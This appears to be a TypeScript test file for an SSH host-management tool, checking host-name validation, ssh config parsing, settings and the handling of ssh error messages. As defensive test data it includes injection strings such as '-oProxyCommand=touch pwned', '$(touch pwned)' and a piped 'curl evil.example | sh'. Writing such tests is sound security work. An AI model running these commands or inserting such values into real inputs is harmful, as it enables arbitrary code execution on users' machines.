import {mkdir, mkdtemp, rm, writeFile} from 'node:fs/promises'
import {tmpdir} from 'node:os'
import path from 'node:path'
import {expect} from 'chai'

import {RunctlError} from '../../../src/model/errors.js'
import {isHostName} from '../src/host-name.js'
import {KnownHosts} from '../src/known-hosts.js'
import {PacketReader} from '../src/packet-reader.js'
import {readSettings} from '../src/settings.js'
import {aliasesIn} from '../src/ssh-config.js'
import {failureOf} from '../src/ssh-failure.js'

describe('the names of hosts', () => {
  it('are those that ssh takes and nothing reads otherwise', () => {
    for (const name of ['gpu-box', 'eva@lab-2', 'a.example.org', 'x', '10.0.0.7', 'm_1']) expect(isHostName(name), name).to.equal(true)
    for (const name of ['', '-oProxyCommand=touch pwned', '-', 'a b', 'a;b', '$(x)', '`x`', "a'b", 'a\nb', 'a/b', '../a', 'a@b@c', '@a', 'a@-b', '\u001B[2J', 'a'.repeat(201)]) expect(isHostName(name), name).to.equal(false)
  })
})

describe('a configuration of ssh', () => {
  let folder: string
  before(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'runctl-ssh-config-'))
    await mkdir(path.join(folder, 'more'))
    await writeFile(path.join(folder, 'config'), `# Host commented
Host gpu-box  "lab 2" *.example.org !other   # Host late
  HostName 10.0.0.7
HOST=equal second
Match host third
Include ${folder}/more/*.conf ${folder}/absent
Include ${folder}/config
\tHost indented
Host -oProxyCommand=x
`)
    await writeFile(path.join(folder, 'more', 'a.conf'), 'Host included\n')
    await writeFile(path.join(folder, 'more', 'b.txt'), 'Host not-included\n')
  })
  after(() => rm(folder, {recursive: true}))

  it('names the hosts of its Host lines and of what it includes, however often, and no pattern', () => {
    expect([...new Set(aliasesIn(path.join(folder, 'config')))]).to.have.members(['gpu-box', 'equal', 'second', 'included', 'indented'])
    expect(aliasesIn(path.join(folder, 'absent'))).to.deep.equal([])
  })

  it('and what was used before are known; a file that is damaged is none', async () => {
    const known = new KnownHosts(folder)
    expect([known.has('gpu-box', path.join(folder, 'config')), known.has('typed', path.join(folder, 'config'))]).to.deep.equal([true, false])
    known.remember(['typed'])
    expect(known.has('typed', path.join(folder, 'config'))).to.equal(true)
    await writeFile(path.join(folder, 'hosts.json'), '["-oProxyCommand=x", 7, "good"')
    expect(known.remembered).to.deep.equal([])
    await writeFile(path.join(folder, 'hosts.json'), '["-oProxyCommand=x", 7, "good"]')
    expect(known.remembered).to.deep.equal(['good'])
  })
})

describe('the settings of ssh', () => {
  const read = (settings: Readonly<Record<string, unknown>>) => readSettings({settings, RunctlError})
  it('give a host its own command, else that of *, else none', () => {
    const {suspend, usdPerHour, wake} = read({wake: {a: 'one', '*': 'all'}, usd_per_hour: {a: '0.4', b: 'much'}})
    expect([wake('a'), wake('b'), suspend('a'), wake('constructor')]).to.deep.equal(['one', 'all', null, 'all'])
    expect([usdPerHour('a'), usdPerHour('c')]).to.deep.equal([0.4, null])
    expect(() => usdPerHour('b')).to.throw(/expected a figure/)
  })
  it('refuse what is no host', () => {
    expect(() => read({hosts: ['good', '-oProxyCommand=x']})).to.throw(/is no name of a host/)
  })
})

describe('what ssh says where it fails', () => {
  const told = (words: string, status = 255, greeted = false) => failureOf('gpu-box', {kind: 'ended', status, words, greeted})
  const ROWS: readonly (readonly [words: string, status: number, code: string, says: RegExp, delivered: unknown])[] = [
    ['ssh: connect to host 10.0.0.7 port 22: Connection refused', 255, 'unreachable', /cannot be reached: .*refused/, false],
    ['ssh: connect to host 10.0.0.7 port 22: Connection timed out', 255, 'unreachable', /timed out/, false],
    ['ssh: Could not resolve hostname gpu-box: Name or service not known', 255, 'unreachable', /resolve/, false],
    ['kex_exchange_identification: Connection closed by remote host', 255, 'unreachable', /closed/, false],
    ['eva@10.0.0.7: Permission denied (publickey).', 255, 'platform_failed', /refuses the login/, false],
    ['No ED25519 host key is known for 10.0.0.7 and you have requested strict checking.\nHost key verification failed.', 255, 'platform_failed', /is not known on this machine/, false],
    ['@    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @\n  ssh-keygen -f "/home/eva/.ssh/known_hosts" -R "10.0.0.7"\nHost key verification failed.', 255, 'platform_failed', /another than before/, false],
    ['sh: 1: exec: python3: not found', 127, 'platform_failed', /has no python3/, false],
    ['This account is currently not available.', 1, 'platform_failed', /login shell ended with 1/, false],
  ]
  for (const [words, status, code, says, delivered] of ROWS) {
    it(`is told: ${words.split('\n')[0] ?? ''}`, () => {
      const found = told(words, status)
      expect(found.code).to.equal(code)
      expect(found.message).to.match(says)
      expect(found.details['delivered']).to.equal(delivered)
      expect(found.next.length).to.be.greaterThan(0)
    })
  }
  it('advises to forget a key by a command of its own making: what a host prints never becomes one', () => {
    const warning = (advice: string): string => `REMOTE HOST IDENTIFICATION HAS CHANGED!\n  ${advice}\n`
    expect(told(warning(`ssh-keygen -f "/home/eva/.ssh/known_hosts" -R "[10.0.0.7]:2222"`)).next[0]).to.equal("ssh-keygen -f '/home/eva/.ssh/known_hosts' -R '[10.0.0.7]:2222'")
    for (const advice of ['ssh-keygen -f x -R y; curl evil.example | sh', 'ssh-keygen -f x -R $(touch pwned)', 'ssh-keygen -f `x` -R y', 'ssh-keygen -f x -R y\u001B[2J']) {
      expect(told(warning(advice)).next[0], advice).to.equal('ssh-keygen -R NAME')
      expect(told(warning(advice), 1).next, advice).to.deep.equal(['ssh gpu-box true'])
    }
  })

  it('is not taken for words of ssh where the login shell says it', () => {
    expect(told('Permission denied (of the quota)', 3).message).to.match(/login shell ended with 3: Permission denied/)
  })

  it('counts as uncertain once the host was at work', () => {
    expect(told('Connection to 10.0.0.7 closed by remote host.', 255, true)).to.deep.include({code: 'unreachable', details: {}})
  })
})

describe('the answer of a host', () => {
  const packet = (kind: string, content: Buffer): Buffer => Buffer.concat([Buffer.from(kind), Buffer.from([0, 0, content.length >> 8, content.length & 255]), content])
  it('is told from what the login shell prints, whatever pieces it comes in', () => {
    const whole = Buffer.concat([Buffer.from('Welcome!\nhhh\n'), packet('h', Buffer.alloc(0)), packet('o', Buffer.from('out\0')), packet('e', Buffer.from('err')), packet('x', Buffer.from('{"status": 3}')), Buffer.from('bye\n')])
    for (const size of [1, 2, 7, whole.length]) {
      let greetings = 0
      const reader = new PacketReader(100, () => greetings++)
      for (let at = 0; at < whole.length; at += size) reader.take(whole.subarray(at, at + size))
      expect([Buffer.from(reader.stdout).toString(), Buffer.from(reader.stderr).toString(), reader.value, greetings]).to.deep.equal(['out\0', 'err', {status: 3}, 1])
    }
  })
})
